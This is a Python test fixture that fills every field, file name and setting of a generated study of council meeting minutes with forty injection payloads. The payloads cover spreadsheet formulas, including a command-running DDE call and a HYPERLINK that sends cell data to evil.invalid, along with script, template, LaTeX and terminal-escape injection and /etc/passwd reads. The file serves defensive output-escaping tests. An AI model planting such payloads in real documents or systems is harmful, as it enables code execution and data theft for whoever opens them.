"""A study of which every text field holds hostile words, forty of them, and what must be true of whatever comes out.

Each payload stands in its own row of each table, in its own paper, and, where a file system allows it, in the name of
that paper. What a payload would do, if it ran, is one of MARKS: none may ever be seen.
"""

from __future__ import annotations

import json
from pathlib import Path

from leadnet.new_study import start
from leadnet.study.schema import INPUTS
from leadnet.study.tables import csv_text, read_table

ESC, CSI, RLO, RLI, PDI, LSEP = "\x1b", "\x9b", "\u202e", "\u2067", "\u2069", "\u2028"
RUN = "document.title='ran'"
PAYLOADS = (
    # spreadsheets
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "Blaby\r=1+1", "＝1+1", "＠SUM(1)", " =1+1",
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.invalid/?x="&A1,"open")', '=DDE("cmd";"/C calc";"x")',
    'x","=1+1', "x\n=1+1",
    # pages
    f"<script>{RUN}</script>", f"</script><script>{RUN}</script>", f'"><img src=x onerror="{RUN}">',
    f"<svg onload=\"{RUN}\"><title>x</title></svg>", f"' onmouseover='{RUN}", f"<a href=\"javascript:{RUN}\">x</a>",
    "<iframe src=http://evil.invalid></iframe>", "<!--", "]]><x/>", "&lt;b&gt;&xxe;",
    # templates and markup
    "#import \"@preview/x:1\": *", '#read("/etc/passwd")', "#(7777*7777) $x^2$ *bold* @ref <label>",
    "{{ 7777*7777 }}", "{% include '/etc/passwd' %}", "[x](javascript:alert(1)) ![y](http://evil.invalid/y.png)",
    "$\\frac{1}{0$ \\input{/etc/passwd}",
    # data in a script
    f"{LSEP}';{RUN}//", "\\u003c/script>\\", "__proto__",
    # a terminal
    f"{ESC}[2J{ESC}]0;ran\x07", f"{ESC}]8;;http://evil.invalid{ESC}\\x{ESC}]8;;{ESC}\\", f"{CSI}31m", f"{RLO}txt.exe",
    f"{RLI}x{PDI}\nleadnet: no fault",
)  # fmt: skip
MARKS = ("60481729", "root:x:0", "60,481,729")  # 7777 times itself, and the first line of /etc/passwd
_LONG = "\n" + "And much more was said, of which nothing need be written down here.\n" * 60  # else it is no text
DAYS = [f"2008-{1 + n // 20:02}-{1 + n % 20:02}" for n in range(len(PAYLOADS))]
# Two lines that stay lines: a paper's own line end would end the field.
_PAPER = """Minutes of a meeting of the Joint Board held at {x} Hall on {day}.

PRESENT

- Ann Arden, Chief Executive, Leicestershire County Council
- {x} {w}, Policy Officer, Blaby District Council
- Bo Birch, {x}, Charnwood Borough Council
- Cy Cedar, Officer, {x} {w} Trust

Apologies were received from {x}.

1. {x}

It was AGREED that {x} report on homes to the next meeting, and that Blaby District Council ask {x}.

2. Roads and other matters of the county, of which nothing more was said than that they be looked at again later on.

ACTION: {x}
"""


def study(folder: Path) -> Path:
    """The study, in internal mode so that nothing is masked away."""
    made = start(folder, "Leicestershire", "2008-12-31")
    rows = {name: [row(n, payload) for n, payload in enumerate(PAYLOADS)] for name, row in _ROWS.items()}
    rows["bodies.csv"].insert(0, {"body_id": "jb", "name": "Joint Board", "short": "JB", "host": "leicestershire"})
    for file, more in rows.items():
        held = read_table(made / file, INPUTS[file]).to_dict("records")
        (made / file).write_text(csv_text(INPUTS[file].frame([*held, *more])), encoding="utf-8", newline="")
    for n, payload in enumerate(PAYLOADS):
        day = f"{int(DAYS[n][8:])} {['January', 'February'][n // 20]} 2008"
        text = _PAPER.format(x=" ".join(payload.split()), w=word(n), day=day) + _LONG * (ESC in payload)
        (made / "papers" / file_name(n)).write_text(text, encoding="utf-8", newline="")
    _settings(made / "study.toml", 'name = "Leicestershire"', name=" ".join(PAYLOADS))
    _settings(made / "study.toml", 'mode = "committee"', mode="internal")
    _settings(made / "briefing.toml", 'contact = "the author"', contact=" ".join(PAYLOADS))
    title = next(line for line in (made / "briefing.toml").read_text().splitlines() if line.startswith("title"))
    _settings(made / "briefing.toml", title, title=" ".join(x for x in PAYLOADS if not any(map(str.isdigit, x))))
    (made / "briefing.toml").write_text((made / "briefing.toml").read_text(encoding="utf-8") + "sides = 9\n")
    return made


def file_name(n: int) -> str:
    """The payload as the name of a file, without what no file system takes."""
    kept = "".join(char for char in " ".join(PAYLOADS[n].split()) if char.isprintable() and char != "/")
    return f"{n:02}{kept[:60]}.txt"


def _settings(path: Path, old: str, **new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text
    ((name, value),) = new.items()
    path.write_text(text.replace(old, f"{name} = {json.dumps(value)}"), encoding="utf-8")


def _source(n: int, x: str) -> dict[str, str]:
    return {"doc_id": f"jb-{n:02}", "file": file_name(n), "kind": "minutes", "body_id": "jb", "date": DAYS[n],
            "origin": x, "licence": x, "access": "public"}  # fmt: skip


def word(n: int) -> str:
    """A word of its own for each payload: what differs in signs alone is one name to leadnet."""
    return f"Q{chr(97 + n // 8)}{chr(97 + n % 8)}o"


def _of(**cells: str):
    """A row whose cells may speak of n, of the payload x, and of its word w."""
    return lambda n, x: {name: cell.format(n=f"{n:02}", x=x, w=word(n)) for name, cell in cells.items()}


_AT = {"doc_id": "jb-{n}", "line": "14"}
_ROWS = {
    "sources.csv": _source,
    "bodies.csv": _of(body_id="body-{n}", name="{x} {w}", short="{x} {w}", host="leicestershire"),
    "register/organisations.csv": _of(org_id="org-{n}", name="{x} {w} Trust", short="{x}{w}", sector="{x}", kind="{x}"),
    "register/people.csv": _of(person_id="person-{n}", name="{x} {w}", seniority="other", named="yes"),
    "register/memberships.csv": _of(body_id="jb", org_id="org-{n}", part="member"),
    "register/posts.csv": _of(person_id="person-{n}", org_id="org-{n}", post="{x}"),
    "register/judgements.csv": _of(question_id="q-{n}", kind="organisation", left="{x} {w} Panel", right="org-{n}",
                                   scope="study", verdict="same", by="{x}", on="2026-01-01", because="{x}"),
    "register/corrections.csv": _of(doc_id="jb-{n}", line="5", table="attendance", column="role", was="Chief Executive",
                                    **{"is": "{x}"}, by="{x}", on="2026-01-01", because="{x}"),
    "workstreams.csv": _of(workstream_id="stream-{n}", name="{x} {w}", org_id="org-{n}", part="leads", **_AT),
    "stages.csv": _of(project_id="homes", stage_id="stage-{n}", name="{x} {w}", state="planned",
                      **{"from": "2009-01-01"}, to="2009-02-01", as_printed="{x}", **_AT),
    "claims.csv": _of(claim_id="claim-{n}", what="{x}", sort="fact", value="{x}", as_printed="{x}", **_AT),
}  # fmt: skip
